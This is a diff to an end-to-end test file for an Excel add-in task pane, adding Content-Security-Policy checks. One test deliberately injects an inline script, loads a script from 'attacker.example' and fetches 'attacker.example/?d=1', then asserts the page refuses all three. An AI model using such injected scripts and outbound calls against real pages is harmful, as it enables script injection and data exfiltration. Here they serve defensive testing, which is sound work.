@@ -2,7 +2,9 @@
  * End to end: the built task pane in a real headless Chromium (Debian's), with office.js
  * replaced by the fake Excel holding a sample workbook. Clicks Check, a finding, Grade and Undo
  * and asserts the fake workbook's cells after each step; saves screenshots for the README.
- * Every request that is not the local server is blocked and must not happen.
+ * Every request that is not the local server is blocked and must not happen. The pages carry their
+ * Content-Security-Policy: any violation (in the console, as a page error or as a
+ * securitypolicyviolation event) fails the test that caused it.
  */
 import { existsSync, promises as fs } from 'node:fs';
 import http from 'node:http';
@@ -37,6 +39,13 @@ let origin: string;
 let browser: Browser;
 let snapshot: WorkbookSnapshot;
 const blocked: string[] = [];
+/** Content-Security-Policy violations seen in any page (each test must leave none). */
+const cspProblems: string[] = [];
+const CSP_TEXT = /Content[ -]Security[ -]Policy|unsafe-eval|EvalError/i;
+
+afterEach(() => {
+  expect(cspProblems.splice(0)).toEqual([]);
+});
 
 async function build(): Promise<void> {
   process.env.ADDIN_BASE_URL = BASE;
@@ -90,6 +99,10 @@ afterAll(async () => {
 
 async function openPane(lang = 'ja-JP', fixture: WorkbookSnapshot = snapshot, apiMinor?: number): Promise<Page> {
   const page = await browser.newPage({ viewport: { width: 380, height: 760 }, locale: lang });
+  page.on('console', (m) => void (CSP_TEXT.test(m.text()) && cspProblems.push(`console: ${m.text()}`)));
+  page.on('pageerror', (e) => void (CSP_TEXT.test(`${e.name} ${e.message}`) && cspProblems.push(`pageerror: ${e.message}`)));
+  // Also what the browser reports without printing it.
+  await page.addInitScript(() => document.addEventListener('securitypolicyviolation', (e) => console.error(`Content Security Policy violation: ${e.violatedDirective} ${e.blockedURI}`)));
   await page.route('**/*', async (route) => {
     const url = route.request().url();
     if (url === CDN) return route.fulfill({ path: `${out}-fake/fake-office.js`, contentType: 'text/javascript' });
@@ -110,6 +123,49 @@ test('the build writes the manifest with the production base URL', async () => {
   expect(manifest).toContain(`${BASE}taskpane.html`);
   const html = await fs.readFile(path.join(out, 'taskpane.html'), 'utf8');
   expect(html).toMatch(/taskpane\.[0-9a-f]{8,}\.js/);
+});
+
+test('the built pages carry a strict Content-Security-Policy before any script', async () => {
+  // eslint-disable-next-line @typescript-eslint/no-require-imports
+  const { contentSecurityPolicy } = require(path.join(ROOT, 'webpack.config.js'));
+  for (const [file, expected] of [['taskpane.html', contentSecurityPolicy({ localOffice: false })], ['help.html', null]] as const) {
+    const html = await fs.readFile(path.join(out, file), 'utf8');
+    const meta = /<meta http-equiv="?Content-Security-Policy"? content="([^"]+)"/i.exec(html);
+    expect(meta).not.toBeNull();
+    if (expected) expect(meta![1]).toBe(expected);
+    const csp = new Map(meta![1].split(';').map((d) => d.trim().split(/\s+/)).map(([k, ...v]) => [k, v]));
+    expect([...csp.values()].flat()).not.toContain("'unsafe-eval'");
+    expect(csp.get('script-src') ?? csp.get('default-src')).not.toContain("'unsafe-inline'");
+    expect(csp.get('object-src') ?? csp.get('default-src')).toEqual(["'none'"]);
+    expect(csp.get('connect-src') ?? csp.get('default-src')).not.toContain('*');
+    const firstScript = html.search(/<script/i);
+    if (firstScript >= 0) expect(meta!.index).toBeLessThan(firstScript);
+  }
+});
+
+test('the policy is in force in the pane: an injected script and a call to another server are refused, and noticed', async () => {
+  const page = await openPane();
+  await page.getByRole('button', { name: 'ブックを確認する' }).waitFor();
+  const outcome = await page.evaluate(async () => {
+    const w = window as unknown as Record<string, unknown>;
+    const inline = document.createElement('script');
+    inline.textContent = 'window.__injected = true';
+    document.head.appendChild(inline);
+    const remote = document.createElement('script');
+    remote.src = 'https://attacker.example/x.js';
+    document.head.appendChild(remote);
+    const fetched = await fetch('https://attacker.example/?d=1').then(() => 'sent', (e: Error) => e.name);
+    await new Promise((r) => setTimeout(r, 200));
+    return { injected: w.__injected === true, fetched };
+  });
+  expect(outcome).toEqual({ injected: false, fetched: 'TypeError' });
+  await page.close();
+  // Refused by the policy before any request was made; the detector the other tests rely on saw all three.
+  expect(blocked).toEqual([]);
+  expect(cspProblems.some((p) => /script-src/.test(p) && /inline/.test(p))).toBe(true);
+  expect(cspProblems.some((p) => /attacker\.example\/x\.js/.test(p))).toBe(true);
+  expect(cspProblems.some((p) => /connect-src/.test(p))).toBe(true);
+  cspProblems.splice(0);
 });
 
 test('Check, a finding, Grade and Undo on the fake Excel', async () => {
